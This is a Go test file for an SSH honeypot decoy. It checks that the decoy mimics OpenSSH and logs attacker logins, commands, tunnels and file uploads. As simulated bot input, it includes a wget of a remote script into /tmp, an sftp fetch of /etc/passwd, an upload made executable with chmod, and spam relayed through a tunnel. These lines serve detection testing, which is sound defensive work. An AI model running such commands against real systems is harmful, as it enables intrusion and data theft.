package ssh_test

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/md5"
	"crypto/rand"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/crypto/ssh"

	decoy "decnet/decoy/ssh"
	"decnet/decoy/trap"
	"decnet/decoy/traptest"
)

const password = "hunter2"

func bench(t *testing.T, distro string) *traptest.Bench {
	t.Helper()
	return traptest.New(t, decoy.New, traptest.Options{
		Service: "ssh", Config: trap.Config{"password": password}, Identity: trap.Identity{Distro: distro},
	})
}

func clientConfig(auth ...ssh.AuthMethod) *ssh.ClientConfig {
	return &ssh.ClientConfig{User: "root", Auth: auth, HostKeyCallback: ssh.InsecureIgnoreHostKey()}
}

func login(t *testing.T, b *traptest.Bench) *ssh.Client {
	t.Helper()
	return connect(t, b.Dial(22), clientConfig(ssh.Password(password)))
}

func connect(t *testing.T, c net.Conn, config *ssh.ClientConfig) *ssh.Client {
	t.Helper()
	conn, channels, requests, err := ssh.NewClientConn(c, "decoy:22", config)
	require.NoError(t, err)
	client := ssh.NewClient(conn, channels, requests)
	t.Cleanup(func() { _ = client.Close() })
	return client
}

func output(t *testing.T, c *ssh.Client, command string) string {
	t.Helper()
	s, err := c.NewSession()
	require.NoError(t, err)
	out, err := s.CombinedOutput(command)
	if err != nil {
		require.ErrorAs(t, err, new(*ssh.ExitError))
	}
	return string(out)
}

func TestSSH_WhatAClientDoesIsRecorded(t *testing.T) {
	t.Parallel()
	b := bench(t, "")
	c := login(t, b)
	assert.Equal(t, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u6", string(c.ServerVersion()))
	assert.Equal(t, "root\n/root\n", output(t, c, "whoami; cd /tmp; echo x > kept; cd; pwd"))
	assert.Equal(t, "x\n/root\n", output(t, c, "cat /tmp/kept; pwd"), "the next command sees the file, in a shell of its own")
	s, err := c.NewSession()
	require.NoError(t, err)
	var exit *ssh.ExitError
	require.ErrorAs(t, s.Run("exit 7"), &exit)
	assert.Equal(t, 7, exit.ExitStatus())

	assert.Equal(t, "SSH-2.0-Go", traptest.Fields(b.Wait("client_banner"))["banner"])
	kex := traptest.Fields(b.Wait("kex"))
	assert.Equal(t, fmt.Sprintf("%x", md5.Sum([]byte(kex["hassh_algorithms"]))), kex["hassh"])
	lists := strings.Split(kex["hassh_algorithms"], ";")
	require.Len(t, lists, 4)
	assert.True(t, strings.HasSuffix(lists[0], ",ext-info-c,kex-strict-c-v00@openssh.com"), lists[0])
	assert.Equal(t, "none", lists[3])
	auth := traptest.Fields(b.Wait("auth_attempt"))
	assert.Equal(t, []string{"root", password, "password", "success"}, []string{auth["username"], auth["password"], auth["method"], auth["status"]})
	command := traptest.Fields(b.WaitN("command", 3)[2])
	assert.Equal(t, "exit 7", command["command"])
	assert.Equal(t, "exec", command["mode"])
	assert.Equal(t, "22", command["dst_port"])
}

func TestSSH_InteractiveShell(t *testing.T) {
	t.Parallel()
	b := bench(t, "rocky9")
	s, err := login(t, b).NewSession()
	require.NoError(t, err)
	require.NoError(t, s.Setenv("LC_X", "y"))
	require.NoError(t, s.RequestPty("xterm", 24, 80, ssh.TerminalModes{}))
	in, err := s.StdinPipe()
	require.NoError(t, err)
	var out bytes.Buffer
	s.Stdout = &out
	require.NoError(t, s.Shell())
	_, err = io.WriteString(in, "echo $TERM $LC_X\rnosuch\rexit\r")
	require.NoError(t, err)
	require.Error(t, s.Wait(), "exit gives the status of the last command, 127")
	assert.Contains(t, out.String(), "Last login: ")
	assert.Contains(t, out.String(), "[root@srv-web-07 ~]# echo $TERM $LC_X\r\nxterm y\r\n")
	assert.Contains(t, out.String(), "-bash: nosuch: command not found\r\n")
	assert.Equal(t, "xterm", traptest.Fields(b.Wait("pty_request"))["term"])
	assert.Equal(t, "LC_X", traptest.Fields(b.Wait("env"))["name"])
	assert.Equal(t, "interactive", traptest.Fields(b.Wait("command"))["mode"])
}

// Bots send their commands without a terminal: nothing is echoed or prompted.
func TestSSH_ShellWithoutATerminal(t *testing.T) {
	t.Parallel()
	b := bench(t, "")
	s, err := login(t, b).NewSession()
	require.NoError(t, err)
	s.Stdin = strings.NewReader("cd /tmp\nwget http://198.51.100.7/x.sh\ncat > y\nmalware\n")
	var out bytes.Buffer
	s.Stdout = &out
	require.NoError(t, s.Shell())
	require.NoError(t, s.Wait())
	assert.Empty(t, out.String())
	assert.Equal(t, "http://198.51.100.7/x.sh", traptest.Fields(b.Wait("file_download"))["url"])
	assert.Equal(t, "8", traptest.Fields(b.Wait("file_upload"))["size"])
	b.WaitN("command", 3)
}

func TestSSH_RefusesAndRecords(t *testing.T) {
	t.Parallel()
	b := bench(t, "rocky9")
	_, key, err := ed25519.GenerateKey(rand.Reader)
	require.NoError(t, err)
	signer, err := ssh.NewSignerFromKey(key)
	require.NoError(t, err)
	keyboard := ssh.KeyboardInteractive(func(_, _ string, questions []string, _ []bool) ([]string, error) {
		return make([]string, len(questions)), nil
	})
	_, _, _, err = ssh.NewClientConn(b.Dial(22), "x", clientConfig(ssh.PublicKeys(signer), ssh.Password("wrong"), keyboard))
	require.Error(t, err)
	attempt := traptest.Fields(b.Wait("key_attempt"))
	assert.Equal(t, "ssh-ed25519", attempt["key_type"])
	assert.Equal(t, ssh.FingerprintSHA256(signer.PublicKey()), attempt["fingerprint"])
	auth := b.WaitN("auth_attempt", 2)
	assert.Equal(t, "wrong", traptest.Fields(auth[0])["password"])
	assert.Equal(t, "failed", traptest.Fields(auth[0])["status"])
	assert.Equal(t, "keyboard-interactive", traptest.Fields(auth[1])["method"])
}

func TestSSH_TunnelsLeadNowhere(t *testing.T) {
	t.Parallel()
	b := bench(t, "")
	c := login(t, b)
	conn, err := c.Dial("tcp", "203.0.113.80:25")
	require.NoError(t, err)
	_, err = io.WriteString(conn, "EHLO spam\r\n")
	require.NoError(t, err)
	require.NoError(t, conn.Close())
	forward := traptest.Fields(b.Wait("port_forward"))
	assert.Equal(t, []string{"local", "203.0.113.80", "25"}, []string{forward["direction"], forward["target_host"], forward["target_port"]})
	assert.Equal(t, "EHLO spam\r\n", traptest.Fields(b.Wait("port_forward_data"))["data"])
	l, err := c.Listen("tcp", "0.0.0.0:8080")
	require.NoError(t, err)
	require.NoError(t, l.Close())
	assert.Equal(t, "8080", traptest.Fields(b.WaitN("port_forward", 2)[1])["bind_port"])
}

func TestSSH_HostKeysAndPasswordsStayOverRestarts(t *testing.T) {
	t.Parallel()
	keys := t.TempDir()
	prints := map[string]bool{}
	for range 2 {
		b := traptest.New(t, decoy.New, traptest.Options{Service: "ssh", Config: trap.Config{"password": password}, Identity: trap.Identity{Keys: keys}})
		for _, algorithm := range []string{ssh.KeyAlgoED25519, ssh.KeyAlgoECDSA256, ssh.KeyAlgoRSASHA512, ssh.KeyAlgoRSASHA256} {
			config := clientConfig(ssh.Password(password))
			config.HostKeyAlgorithms = []string{algorithm}
			config.HostKeyCallback = func(_ string, _ net.Addr, key ssh.PublicKey) error {
				prints[ssh.FingerprintSHA256(key)] = true
				return nil
			}
			connect(t, b.Dial(22), config)
		}
	}
	assert.Len(t, prints, 3)
}

func TestSSH_NoClientAtAll(t *testing.T) {
	t.Parallel()
	b := bench(t, "")
	for name, test := range map[string]struct{ sent, want string }{
		"http":            {"GET / HTTP/1.1\r\nHost: x\r\n\r\n", "Invalid SSH identification string.\r\n"},
		"too old":         {"SSH-1.5-OpenSSH_1.0\r\n", "Protocol major versions differ.\r\n"},
		"garbage":         {"\x00\xff\x16\x03\n", "Invalid SSH identification string.\r\n"},
		"endless":         {strings.Repeat("A", 100_000), "Invalid SSH identification string.\r\n"},
		"a big packet":    {"SSH-2.0-x\r\n\xff\xff\xff\xff\x00\x14", ""},
		"no algorithms":   {"SSH-2.0-x\r\n\x00\x00\x00\x0c\x0a\x14aaaaaaaaaa", ""},
		"another message": {"SSH-2.0-x\r\n\x00\x00\x00\x0c\x0a\x05aaaaaaaaaa", ""},
		"nothing":         {"SSH-2.0-x\r\n", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c := b.Dial(22)
			go func() {
				_, _ = io.WriteString(c, test.sent)
				_ = c.(*net.TCPConn).CloseWrite()
			}()
			out, _ := io.ReadAll(c)
			line, rest, _ := strings.Cut(string(out), "\r\n")
			assert.Equal(t, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u6", line)
			if test.want != "" {
				assert.Equal(t, test.want, rest)
			}
			line, _, _ = strings.Cut(test.sent, "\n")
			banner := strings.TrimSuffix(line, "\r")
			assert.True(t, slices.ContainsFunc(b.Events(), func(e trap.Event) bool {
				return e.Type == "client_banner" && traptest.Fields(e)["banner"] == banner[:min(len(banner), 255)]
			}))
		})
	}
	t.Cleanup(func() { b.WaitN("protocol_error", 4) })
}

// openssh runs a program of OpenSSH's client with the password at hand.
func openssh(t *testing.T, b *traptest.Bench, program string, stdin string, args ...string) (string, error) {
	t.Helper()
	if _, err := exec.LookPath(program); err != nil {
		t.Skip("OpenSSH's client is not installed")
	}
	host, port, err := net.SplitHostPort(b.Listen(22))
	require.NoError(t, err)
	dir := t.TempDir()
	ask := filepath.Join(dir, "askpass")
	require.NoError(t, os.WriteFile(ask, []byte("#!/bin/sh\necho "+password+"\n"), 0o700))
	portFlag := "-p"
	if program != "ssh" {
		portFlag = "-P"
	}
	all := []string{"-F", "none", portFlag, port, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=" + filepath.Join(dir, "known"), "-o", "PubkeyAuthentication=no"}
	for _, a := range args {
		all = append(all, strings.ReplaceAll(a, "HOST", host))
	}
	cmd := exec.CommandContext(t.Context(), program, all...)
	cmd.Env = append(os.Environ(), "SSH_ASKPASS="+ask, "SSH_ASKPASS_REQUIRE=force", "DISPLAY=:0")
	cmd.Stdin = strings.NewReader(stdin)
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// counted is a connection that counts what was sent.
type counted struct {
	net.Conn
	n atomic.Int64
}

func (c *counted) Write(p []byte) (int, error) {
	n, err := c.Conn.Write(p)
	c.n.Add(int64(n))
	return n, err
}

// stuck waits until at least n bytes were sent, and no more can be for a moment.
func (c *counted) stuck(t *testing.T, n int64) {
	t.Helper()
	last := int64(0)
	require.Eventually(t, func() bool {
		now := c.n.Load()
		same := now == last
		last = now
		return same && now >= n
	}, 10*time.Second, 100*time.Millisecond)
}

func TestSSH_WhoIsNotInYetUsesUpLittle(t *testing.T) {
	t.Parallel()
	t.Run("the first packet", func(t *testing.T) {
		t.Parallel()
		b := bench(t, "")
		c := b.Dial(22)
		_, err := io.WriteString(c, "SSH-2.0-a\r\n\x00\x03\xff\xfc\x0a\x14")
		require.NoError(t, err)
		_, err = io.ReadAll(c) // it hangs up, though the packet is not there yet
		require.NotErrorIs(t, err, os.ErrDeadlineExceeded)
		assert.Equal(t, "0003fffc0a14", traptest.Fields(b.Wait("protocol_error"))["data"])
	})
	t.Run("all that comes later", func(t *testing.T) {
		t.Parallel()
		b := bench(t, "")
		_, _, _, err := ssh.NewClientConn(b.Dial(22), "decoy:22", clientConfig(ssh.Password(strings.Repeat("x", 100_000))))
		require.Error(t, err)
		b.Wait("protocol_error")
		for _, e := range b.Events() {
			assert.NotEqual(t, "auth_attempt", e.Type)
		}
	})
	t.Run("not who is in", func(t *testing.T) {
		t.Parallel()
		b := bench(t, "")
		s, err := login(t, b).NewSession()
		require.NoError(t, err)
		s.Stdin = strings.NewReader(strings.Repeat("x", 200_000))
		require.NoError(t, s.Run("cat > /tmp/x"))
		assert.Equal(t, "200000", traptest.Fields(b.Wait("file_upload"))["size"])
	})
	t.Run("and what is held up ends with the service", func(t *testing.T) {
		t.Parallel()
		b := bench(t, "")
		var config net.ListenConfig
		l, err := config.Listen(t.Context(), "tcp", "127.0.0.1:0")
		require.NoError(t, err)
		t.Cleanup(func() { _ = l.Close() })
		ctx, cancel := context.WithCancel(t.Context())
		served := make(chan struct{})
		go func() {
			defer close(served)
			conn, err := l.Accept()
			if err != nil {
				return
			}
			defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
			b.Service.TCP.Serve(ctx, &trap.Session{Conn: conn, Peer: trap.Peer{Env: b.Env, Port: 22, Recorder: b}})
		}()
		var dialer net.Dialer
		conn, err := dialer.DialContext(t.Context(), "tcp", l.Addr().String())
		require.NoError(t, err)
		sent := &counted{Conn: conn}
		ch, _, err := connect(t, sent, clientConfig(ssh.Password(password))).OpenChannel("session", nil)
		require.NoError(t, err)
		go func() { _, _ = ch.Write(make([]byte, 1<<20)) }() // until the end of the connection
		sent.stuck(t, 200<<10)
		cancel()
		select {
		case <-served:
		case <-time.After(20 * time.Second):
			assert.Fail(t, "it waits for somebody to read what nobody will")
		}
	})
	t.Run("and whoever is in, not with what nobody reads", func(t *testing.T) {
		t.Parallel()
		c := login(t, bench(t, ""))
		for range 5 { // more than a session may have unread at a time
			s, err := c.NewSession()
			require.NoError(t, err)
			in, err := s.StdinPipe()
			require.NoError(t, err)
			require.NoError(t, s.Start("id"))
			_, err = in.Write(make([]byte, 300_000))
			if err != nil {
				require.ErrorIs(t, err, io.EOF, "the channel is closed already")
			}
			require.NoError(t, s.Wait())
		}
	})
}

func TestSSH_RealClient(t *testing.T) {
	t.Parallel()
	b := bench(t, "ubuntu22")
	out, err := openssh(t, b, "ssh", "", "-v", "root@HOST", "uname -sn; exit 4")
	var exit *exec.ExitError
	require.ErrorAsf(t, err, &exit, "%s", out)
	assert.Equal(t, 4, exit.ExitCode())
	assert.Contains(t, out, "Linux srv-web-07\n")
	assert.Contains(t, out, "remote software version OpenSSH_8.9p1 Ubuntu-3ubuntu0.10")
	assert.Contains(t, out, "compat_banner: match: OpenSSH_8.9p1 Ubuntu-3ubuntu0.10 pat OpenSSH*")
	assert.Contains(t, out, "kex: algorithm: curve25519-sha256\r\n")
	assert.Contains(t, out, "kex: server->client cipher: chacha20-poly1305@openssh.com")
	assert.Contains(t, out, "Authenticated to ")
	assert.NotContains(t, strings.ToLower(out), "golang")
	kex := traptest.Fields(b.Wait("kex"))
	assert.Contains(t, kex["hassh_algorithms"], "sntrup761x25519-sha512@openssh.com,curve25519-sha256")
	assert.Contains(t, traptest.Fields(b.Wait("client_banner"))["banner"], "SSH-2.0-OpenSSH_")
}

func TestSSH_RealClientUploads(t *testing.T) {
	t.Parallel()
	b := bench(t, "")
	local := filepath.Join(t.TempDir(), "bot.bin")
	require.NoError(t, os.WriteFile(local, bytes.Repeat([]byte("malware!"), 50_000), 0o600))
	for name, test := range map[string]struct {
		program, stdin string
		args           []string
		target         string
	}{
		"scp over sftp": {"scp", "", []string{local, "root@HOST:/tmp/a"}, "/tmp/a"},
		"scp of old":    {"scp", "", []string{"-O", "-p", local, "root@HOST:/tmp/"}, "/tmp/bot.bin"},
		"sftp":          {"sftp", "put " + local + " b\nls -l\nchmod 755 b\nrename b c\nmkdir d\nget /etc/passwd " + local + ".passwd\nrm c\n", []string{"-o", "BatchMode=no", "-b", "-", "root@HOST"}, "/root/b"},
		"cat":           {"ssh", "PUT", []string{"root@HOST", "cat > /tmp/c; chmod +x /tmp/c; ls -l /tmp/c"}, "/tmp/c"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			stdin := test.stdin
			if stdin == "PUT" {
				stdin = strings.Repeat("malware!", 50_000)
			}
			out, err := openssh(t, b, test.program, stdin, test.args...)
			require.NoErrorf(t, err, "%s", out)
			events := b.Events()
			i := slices.IndexFunc(events, func(e trap.Event) bool {
				return e.Type == "file_upload" && traptest.Fields(e)["filename"] == test.target
			})
			require.GreaterOrEqualf(t, i, 0, "%+v", events)
			up := traptest.Fields(events[i])
			assert.Equal(t, "400000", up["size"])
			assert.Equal(t, "true", up["kept"])
			kept, err := os.ReadFile(filepath.Join(b.QuarantineDir, up["sha256"]))
			require.NoError(t, err)
			assert.Len(t, kept, 400_000)
			if name == "sftp" {
				passwd, err := os.ReadFile(local + ".passwd")
				require.NoError(t, err)
				assert.Contains(t, string(passwd), "root:x:0:0:root:/root:/bin/bash\n")
				assert.Contains(t, out, "400000")
			}
		})
	}
}

func TestSSH_Nmap(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("nmap"); err != nil {
		t.Skip("nmap is not installed")
	}
	b := bench(t, "")
	host, port, err := net.SplitHostPort(b.Listen(22))
	require.NoError(t, err)
	out, err := exec.CommandContext(t.Context(), "nmap", "-Pn", "-n", "-sT", "-sV", "--version-light", "-p", port, host).CombinedOutput()
	require.NoErrorf(t, err, "%s", out)
	assert.Contains(t, string(out), "OpenSSH 9.2p1 Debian 2+deb12u6 (protocol 2.0)")
}
